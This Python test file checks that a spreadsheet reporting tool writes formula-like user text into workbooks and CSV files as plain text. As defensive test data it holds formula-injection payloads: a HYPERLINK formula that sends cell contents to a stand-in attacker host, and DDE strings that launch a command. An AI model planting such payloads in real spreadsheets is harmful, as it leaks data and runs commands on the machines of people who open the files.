"""Formula injection: text from a user's file that starts like a formula is written as text, never as one.

A cell typed or imported as ``=HYPERLINK("http://evil.example/?"&A1,"Click")`` or the DDE classic
``+cmd|' /C calc'!A0`` is harmless as text and dangerous as a formula. kpi-xl copies user text into
workbooks in three places: the refreshed report (segment labels, invalid values, customer ids), the
workbook open in Excel (the same, through xlwings), and ``kpi-xl clv -o predictions.xlsx``.
"""

from __future__ import annotations

import re
import shutil
import zipfile
from pathlib import Path

import openpyxl
import pandas as pd
import pytest

from kpi_xl import cli
from kpi_xl.safety import FORMULA_TRIGGERS, excel_text, formula_like, set_text, write_frame_xlsx
from kpi_xl.workbook import build_template, refresh_workbook
from kpi_xl.workbook.labels import labels
from kpi_xl.workbook.layout import OWNED
from kpi_xl.workbook.refresh import XlwingsSink

SHEET = labels("en")["sheet"]

INJECTED = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"Click")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=2+2",
]
# Words that may appear in no formula of the refreshed book.
MARKERS = ("evil.example", "cmd|", "SUM(1+1)", "=1+1", "=2+2")


@pytest.fixture(scope="module")
def template(tmp_path_factory) -> Path:
    return build_template(tmp_path_factory.mktemp("tpl") / "kpi_report.xlsm")


def test_formula_like_and_excel_text():
    assert FORMULA_TRIGGERS == ("=", "+", "-", "@", "\t", "\r")
    assert formula_like([*INJECTED, "North", 5, None, "", " =1", "a=1"]).tolist() == [True] * 6 + [False] * 6
    assert [excel_text(v) for v in ("=1", "-1", "North", 3.5, None)] == ["'=1", "'-1", "North", 3.5, None]


def test_set_text_keeps_text_and_replaces_what_xml_cannot_hold(tmp_path):
    wb = openpyxl.Workbook()
    ws = wb.active
    for i, text in enumerate([*INJECTED, "bell\x07", "North"], start=1):
        set_text(ws.cell(row=i, column=1), text)
    set_text(ws.cell(row=1, column=2), 12.5)
    wb.save(tmp_path / "t.xlsx")
    back = openpyxl.load_workbook(tmp_path / "t.xlsx").active
    for i, text in enumerate(INJECTED, start=1):
        cell = back.cell(row=i, column=1)
        # XML reading turns a carriage return in text into a line feed; it stays text either way.
        assert (cell.value, cell.data_type, cell.quotePrefix) == (text.replace("\r", "\n"), "s", True)
    assert back.cell(row=len(INJECTED) + 1, column=1).value == "bell\ufffd"
    assert back.cell(row=len(INJECTED) + 2, column=1).quotePrefix is False
    assert back.cell(row=1, column=2).value == 12.5


def test_refresh_writes_injected_segment_labels_and_values_as_text(template, tmp_path):
    book = tmp_path / "kpi_report.xlsm"
    shutil.copy(template, book)
    wb = openpyxl.load_workbook(book, keep_vba=True)
    ws = wb[SHEET["responses"]]
    header = [c.value for c in ws[1]]
    segment = header.index("Segment") + 1
    score = header.index("NPS score") + 1
    # 1,500 responses dealt round-robin into six groups with hostile names, so that every group has
    # responses in the reporting period and is shown on the Segments sheet.
    for r in range(2, 1502):
        set_text(ws.cell(row=r, column=segment), INJECTED[r % len(INJECTED)])
    # One score typed as a formula-like text: an invalid value, listed on the start sheet as typed.
    set_text(ws.cell(row=2, column=score), "=1+1")
    wb.save(book)

    report = refresh_workbook(book)
    assert ("Responses", "NPS score", "=1+1") in {(i.source, i.column, i.value) for i in report.invalid}

    out = openpyxl.load_workbook(book)
    written = []
    for key in OWNED:
        for row in out[SHEET[key]].iter_rows():
            for cell in row:
                if isinstance(cell.value, str) and cell.value.startswith(FORMULA_TRIGGERS):
                    if cell.data_type == "f":
                        # The book's own native formulas: none may carry any of the injected text.
                        assert not any(m in cell.value for m in MARKERS), (key, cell.coordinate, cell.value)
                    else:
                        assert cell.data_type == "s", (key, cell.coordinate)
                        written.append(cell.value)
    labels_shown = [v.strip() for v in INJECTED]
    for text in [*labels_shown, "=1+1"]:
        assert text in written, text
    # The same in the file itself: no formula element of any sheet holds the injected text.
    with zipfile.ZipFile(book) as z:
        for name in z.namelist():
            if name.startswith("xl/worksheets/sheet"):
                formulas = re.findall(rb"<(?:\w+:)?f\b[^>]*>(.*?)</(?:\w+:)?f>", z.read(name), re.S)
                assert not any(m.encode() in f for f in formulas for m in MARKERS), name


class _Cell:
    def __init__(self, log, at):
        self.log, self.at = log, at

    @property
    def value(self):
        return None

    @value.setter
    def value(self, rows):
        self.log.append((self.at, rows))


class _Sheet:
    """What XlwingsSink.flush uses of an xlwings sheet, recording what would be sent to Excel."""

    def __init__(self):
        self.log = []

    def range(self, *at):
        return _Cell(self.log, at)


def test_the_open_workbook_gets_excels_text_marker_in_front_of_formula_like_text():
    sheet = _Sheet()
    sink = XlwingsSink({"segments": sheet})
    sink.value("segments", 5, 1, INJECTED[0])
    sink.value("segments", 5, 2, 17.5)
    sink.rows("segments", 6, 1, [[INJECTED[1], 3], ["North", INJECTED[2]]])
    sink.flush()
    sent = [v for _, rows in sheet.log for line in rows for v in line]
    # Excel stores "'=..." as the text "=..." (the apostrophe is its text marker, not shown).
    assert sent == ["'" + INJECTED[0], 17.5, "'" + INJECTED[1], 3, "North", "'" + INJECTED[2]]


def test_clv_predictions_file_keeps_customer_ids_as_text(tmp_path, capsys):
    from kpi_xl.datasets import load_cdnow_transactions

    # The CDNOW sample with four customers renamed to formula-like ids.
    tx = load_cdnow_transactions()
    ids = ["=1+1", "+49 30 1234", "-7", "@home"]
    first = tx["customer_id"].drop_duplicates().head(4).tolist()
    tx["customer_id"] = tx["customer_id"].astype(str).replace(dict(zip(map(str, first), ids, strict=True)))
    src = tmp_path / "orders.csv"
    tx[["customer_id", "date", "amount"]].to_csv(src, index=False)
    out = tmp_path / "clv.xlsx"
    code = cli.main(["clv", str(src), "--time-unit", "week", "--horizon", "4", "-o", str(out)])
    assert code == 0, capsys.readouterr().err
    ws = openpyxl.load_workbook(out)["CLV"]
    cells = {c.value: c for c in ws["A"][1:]}
    for cid in ids:
        assert cells[cid].data_type == "s" and cells[cid].quotePrefix, cid
    assert not any(c.data_type == "f" for row in ws.iter_rows() for c in row)


def test_write_frame_xlsx_header_and_missing_values(tmp_path):
    frame = pd.DataFrame({"=id": ["=x", "y"], "value": [1.5, float("nan")]})
    write_frame_xlsx(frame, tmp_path / "t.xlsx", sheet_name="T")
    ws = openpyxl.load_workbook(tmp_path / "t.xlsx")["T"]
    assert [[c.value for c in row] for row in ws.iter_rows()] == [["=id", "value"], ["=x", 1.5], ["y", None]]
    assert ws["A1"].data_type == "s" and ws["A2"].data_type == "s"


TOOLS = Path(__file__).resolve().parents[1] / ".." / "shared" / "tools"
# Group names that a COUNTIFS criterion would read as a comparison or a wildcard pattern.
CRITERIA_LIKE = ["=2+2", "<5", ">M", "<>", "=", "N*", "a?c", "~x", "x~*y", "@SUM(1)*2", "North"]


@pytest.mark.skipif(shutil.which("soffice") is None, reason="LibreOffice (soffice) recalculates the book")
def test_live_formulas_count_groups_named_like_criteria_as_the_engine_does(template, tmp_path):
    import sys

    from kpi_xl.workbook import expected_values

    sys.path.insert(0, str(TOOLS.resolve()))
    try:
        import recalc
    finally:
        sys.path.pop(0)
    book = tmp_path / "kpi_report.xlsm"
    shutil.copy(template, book)
    wb = openpyxl.load_workbook(book, keep_vba=True)
    ws = wb[SHEET["responses"]]
    segment = [c.value for c in ws[1]].index("Segment") + 1
    for r in range(2, 1502):
        set_text(ws.cell(row=r, column=segment), CRITERIA_LIKE[r % len(CRITERIA_LIKE)])
    wb.save(book)
    refresh_workbook(book)
    shown = [
        openpyxl.load_workbook(book)[SHEET["segments"]].cell(row=r, column=1).value for r in range(6, 17)
    ]
    assert sorted(shown) == sorted(CRITERIA_LIKE)
    out, errors, _, _ = recalc.recalc(str(book), str(tmp_path / "recalc.xlsx"))
    assert errors == []
    got = openpyxl.load_workbook(out, data_only=True)
    want = expected_values(book)
    wrong = []
    for (sheet, coord), value in want.items():
        cell = got[sheet][coord].value
        number = isinstance(value, (int, float)) and not isinstance(value, bool)
        if number and (not isinstance(cell, (int, float)) or abs(cell - value) > 1e-9 * max(1.0, abs(value))):
            wrong.append((sheet, coord, cell, value))
    assert wrong == [], wrong[:10]


def test_csv_outputs_neutralise_formula_like_text(tmp_path, capsys):
    """--format csv and --problems files are opened in spreadsheets too: user text stays text."""
    from kpi_xl import cli

    src = tmp_path / "survey.csv"
    src.write_text(
        'segment,nps\n"=HYPERLINK(""http://x"",""y"")",10\n@SUM(A1),8\n+49 30,9\nplain,-3\n',
        encoding="utf-8",
    )
    problems = tmp_path / "problems.csv"
    code = cli.main(
        ["metric", "nps", str(src), "--by", "segment", "--format", "csv", "--problems", str(problems)]
    )
    out, err = capsys.readouterr()
    assert code == 0, err
    assert "'=HYPERLINK" in out and "'@SUM(A1)" in out and "'+49 30" in out
    assert "\n=" not in out and ",=" not in out
    # The invalid score -3 is listed with its value as plain number text, not quoted away.
    text = problems.read_text(encoding="utf-8")
    assert "-3" in text and "'-3" not in text
